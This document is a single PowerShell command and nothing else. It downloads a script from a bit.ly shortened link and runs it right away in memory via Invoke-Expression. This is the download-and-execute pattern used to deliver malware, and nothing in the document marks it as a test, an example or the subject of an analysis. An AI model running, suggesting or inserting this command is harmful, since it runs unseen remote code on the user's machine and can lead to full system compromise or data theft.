iex (New-Object Net.WebClient).DownloadString('https://bit.ly/3abcXYZ')
